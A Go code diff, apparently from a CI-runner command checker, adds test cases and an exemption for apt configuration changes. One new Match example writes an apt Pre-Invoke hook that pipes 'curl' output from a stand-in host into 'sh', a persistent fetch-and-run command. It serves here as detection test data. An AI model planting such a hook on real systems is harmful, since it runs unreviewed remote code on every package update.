@@ -73,9 +73,11 @@ func runnerEntries() []imageRule {
 			Why: "the machine's own /etc, binaries, units and start-up files; package sources, keyrings, CA stores and registry settings stay: " +
 				"they decide where the code the job runs with its token comes from",
 			Match: []string{"echo 'deb http://x/ stable main' > /etc/apt/sources.list.d/x.list", "sed -i 's/deb.debian.org/archive.debian.org/' /etc/apt/sources.list",
-				`echo '{"registry-mirrors":["https://m.example"]}' | sudo tee /etc/docker/daemon.json`, "sudo cp ca.crt /etc/docker/certs.d/r.example/ca.crt"},
+				`echo '{"registry-mirrors":["https://m.example"]}' | sudo tee /etc/docker/daemon.json`, "sudo cp ca.crt /etc/docker/certs.d/r.example/ca.crt",
+				`echo 'APT::Update::Pre-Invoke { "curl -s https://x.example/a | sh"; };' | sudo tee /etc/apt/apt.conf.d/00x`},
 			NoMatch: []string{"sudo mv /usr/bin/python /usr/bin/python.bak", "echo '127.0.0.1 db.test' | sudo tee -a /etc/hosts",
-				"echo 'x ALL=(ALL) ALL' | sudo tee -a /etc/sudoers", "echo 'export PATH=/opt/x/bin:$PATH' | sudo tee /etc/profile.d/x.sh"},
+				"echo 'x ALL=(ALL) ALL' | sudo tee -a /etc/sudoers", "echo 'export PATH=/opt/x/bin:$PATH' | sudo tee /etc/profile.d/x.sh",
+				`echo 'Acquire::Retries "10";' | sudo tee /etc/apt/apt.conf.d/80-retries`},
 		},
 		{
 			// misses6: a CA added to the machine's trust store, or a program
@@ -234,8 +236,9 @@ func quietRunnerConfig(c *parse.Command) bool {
 	case "tar", "bsdtar", "mv":
 		targets = append(targets, c.Args[1:]...)
 	}
+	aptTuning := benignAptConf(c) // pred_aptconf.go
 	for _, w := range targets {
-		if underAny(w, runnerTrust) {
+		if underAny(w, runnerTrust) && !aptTuning {
 			return false
 		}
 	}
